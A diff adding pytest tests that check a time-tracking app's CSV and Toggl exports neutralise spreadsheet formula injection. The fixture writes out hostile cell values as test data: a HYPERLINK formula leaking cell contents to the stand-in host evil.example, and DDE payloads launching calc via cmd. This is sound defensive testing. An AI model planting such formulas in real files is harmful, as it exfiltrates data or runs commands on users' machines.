@@ -13,7 +13,14 @@ import pytest
 
 from sec_desktop.framework import Framework
 from sec_desktop.interop import ImportFileError, ImportOptions, apply_plan, plan_import
-from sec_desktop.interop.exports import TOGGL_COLUMNS, export_ics, export_json, export_toggl_csv
+from sec_desktop.interop.exports import (
+    TOGGL_COLUMNS,
+    csv_safe,
+    export_csv,
+    export_ics,
+    export_json,
+    export_toggl_csv,
+)
 from sec_desktop.interop.importers import ics, toggl
 from sec_desktop.store import Entry, EntryStore
 from tests.helpers.entries import make_entry
@@ -111,3 +118,68 @@ def test_ics_export_maps_back_by_the_shipped_rules(
     path.write_bytes(export_ics(entries[:2], framework, NOW))
     result = plan_import(path, "ics", store=store, framework=framework, zone=BERLIN, now=NOW)
     assert sorted(e.activity for e in result.new_entries) == sorted([BOARD, INCIDENT])
+
+
+# What a spreadsheet runs as a formula when a cell starts with it (OWASP's CSV injection list).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def hostile(framework: Framework) -> tuple[Framework, list[Entry]]:
+    """A framework whose activity label was renamed to a formula (the customization allows any
+    text), and entries whose id, unknown activity, labels and note came from a hostile file."""
+    from sec_desktop.framework.customization import Customization, apply_customization
+
+    renamed = apply_customization(framework, Customization().rename(framework, BOARD, HYPERLINK))
+    make = partial(make_entry, device="laptop-1", now=NOW)
+    return renamed, [
+        replace(make(berlin(2026, 3, 2, 9, 0), 60, BOARD), id="@SUM(1+1)*cmd|' /C calc'!A0"),
+        replace(
+            make(berlin(2026, 3, 2, 11, 0), 30, "-2+3+cmd|' /C calc'!A0"),
+            id="+1+1",
+            labels=("=1+2", "\tx"),
+            note="\r=1+1",
+        ),
+        make(berlin(2026, 3, 2, 12, 0), 30, MENTORSHIP, labels=(" =spaced",), note="-note"),
+    ]
+
+
+def _formula_cells(text: str) -> list[str]:
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == 4
+    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(FORMULA_STARTS)]
+
+
+def test_csv_export_neutralises_every_text_cell(hostile) -> None:
+    framework, entries = hostile
+    text = export_csv(entries, framework)
+    assert _formula_cells(text) == []
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows[0]["id"] == "'" + entries[0].id
+    assert rows[0]["activity"] == "'" + HYPERLINK
+    assert rows[1]["activity_id"] == "'" + entries[1].activity
+    assert rows[1]["labels"] == "'=1+2, \tx"
+    assert rows[1]["note"] == "'\r=1+1"
+    assert rows[2]["labels"] == "' =spaced"
+
+
+def test_toggl_csv_export_neutralises_every_text_cell(hostile) -> None:
+    framework, entries = hostile
+    text = export_toggl_csv(entries, framework, BERLIN)
+    assert _formula_cells(text) == []
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows[0]["Description"] == rows[0]["SEC activity"] == "'" + HYPERLINK
+    assert rows[0]["SEC activity id"] == BOARD
+    assert rows[1]["SEC activity id"] == "'" + entries[1].activity
+    assert rows[2]["Description"] == "'-note"
+
+
+@pytest.mark.parametrize("cell", ["=1", "  +1", "\n=1", "\uff1dSUM(A1)", "\uff20x", "-1"])
+def test_csv_safe_quotes_what_a_spreadsheet_would_run(cell: str) -> None:
+    assert csv_safe(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["", "plan = done", "a-b", "2026-03-02", "1:30:00", "12.50"])
+def test_csv_safe_leaves_plain_text_and_numbers(cell: str) -> None:
+    assert csv_safe(cell) == cell
